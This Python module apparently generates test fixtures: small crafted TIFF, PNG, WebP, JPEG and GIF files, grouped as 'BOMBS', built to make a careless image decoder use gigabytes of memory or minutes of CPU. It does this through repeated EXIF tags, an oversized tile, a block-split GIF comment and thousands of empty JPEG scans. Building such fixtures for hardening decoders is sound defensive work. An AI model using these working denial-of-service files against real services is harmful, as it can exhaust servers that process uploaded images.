"""Small files that cost a careless decoder gigabytes or minutes; built in a moment."""

import io
import struct
import zlib

import numpy as np
from PIL import Image

SMALL = Image.fromarray(np.random.default_rng(0).integers(0, 256, (24, 32, 3), np.uint8))


def saved(kind, **options):
    buffer = io.BytesIO()
    SMALL.save(buffer, kind, **options)
    return buffer.getvalue()


def _directory(*tags, start=8):
    """A TIFF whose first directory holds these (tag, type, count, value); bytes follow it."""
    body = b"".join(struct.pack("<HHII", *tag) for tag in sorted(tags))
    return b"II*\0" + struct.pack("<IH", start, len(tags)) + body + bytes(4)


def _tags_of_the_same_bytes(count, size):
    """Tags of made-up numbers that all point at the same `size` bytes behind the directory."""
    behind = 8 + 2 + 12 * count + 4
    return [(10_000 + n, 7, size, behind) for n in range(count)], bytes(size)


def greedy_exif(count=20_000, size=100_000):
    """An EXIF block of 340 kB that takes 2 GB to read."""
    tags, blob = _tags_of_the_same_bytes(count, size)
    return _directory(*tags) + blob


def greedy_tiff(count=20_000, size=100_000):
    """A picture of four pixels with as many such tags."""
    strip = 8 + 2 + 12 * (count + 9) + 4
    tags, blob = _tags_of_the_same_bytes(count, size)
    tags = [(tag, kind, length, strip) for tag, kind, length, _ in tags]
    about = [(256, 3, 1, 2), (257, 3, 1, 2), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1)]
    about += [(273, 4, 1, strip), (277, 3, 1, 1), (278, 3, 1, 2), (279, 4, 1, 4)]
    return _directory(*about, *tags) + blob


def huge_tile(side=30_000):
    """A picture of 32 x 32 pixels in one tile of 0.9 gigapixels."""
    data = zlib.compress(bytes(1 << 20))
    place = 8 + 2 + 12 * 10 + 4
    tags = [(256, 3, 1, 32), (257, 3, 1, 32), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1)]
    tags += [(277, 3, 1, 1), (322, 4, 1, side), (323, 4, 1, side)]
    tags += [(324, 4, 1, place), (325, 4, 1, len(data))]
    return _directory(*tags) + data


def chatty_gif(size=3_000_000):
    """A GIF whose comment is joined block by block, each time from its beginning."""
    plain = saved("GIF")
    start = 13 + 3 * 2 ** ((plain[10] & 7) + 1)
    blocks = (b"\xff" + b"x" * 255) * (size // 256)
    return plain[:start] + b"\x21\xfe" + blocks + b"\0" + plain[start:]


def scanned_jpeg(scans=30_000, size=(4000, 4000)):
    """A progressive JPEG of many scans that hold nothing, each a walk over all of its blocks."""

    def part(mark, data):
        return b"\xff" + bytes([mark]) + struct.pack(">H", len(data) + 2) + data

    quantization = part(0xDB, b"\0" + b"\1" * 64)
    frame = part(0xC2, struct.pack(">BHHB", 8, *size, 1) + b"\1\x11\0")
    tables = b"".join(
        part(0xC4, bytes([place]) + bytes([1, *[0] * 15, 0])) for place in (0x00, 0x10)
    )
    first = part(0xDA, b"\1\1\0\0\0\0")
    more = part(0xDA, b"\1\1\0\1\1\0") * scans
    return b"\xff\xd8" + quantization + frame + tables + first + more + b"\xff\xd9"


def with_png_exif(exif):
    data = saved("PNG")
    chunk = b"eXIf" + exif
    chunk = struct.pack(">I", len(exif)) + chunk + struct.pack(">I", zlib.crc32(chunk))
    return data[:33] + chunk + data[33:]


def with_webp_exif(exif):
    return saved("WEBP", exif=exif)


def with_jpeg_exif(exif):
    """In as many parts as its lengths of 16 bits need."""
    data, parts = saved("JPEG"), b""
    for start in range(0, len(exif), 65_000):
        body = b"Exif\0\0" + exif[start : start + 65_000]
        parts += b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body
    return data[:2] + parts + data[2:]


BOMBS = {
    "tags.tif": greedy_tiff,
    "exif.png": lambda: with_png_exif(greedy_exif()),
    "exif.webp": lambda: with_webp_exif(greedy_exif()),
    "exif.jpg": lambda: with_jpeg_exif(greedy_exif()),
    "tile.tif": huge_tile,
    "comment.gif": chatty_gif,
    "scans.jpg": scanned_jpeg,
}
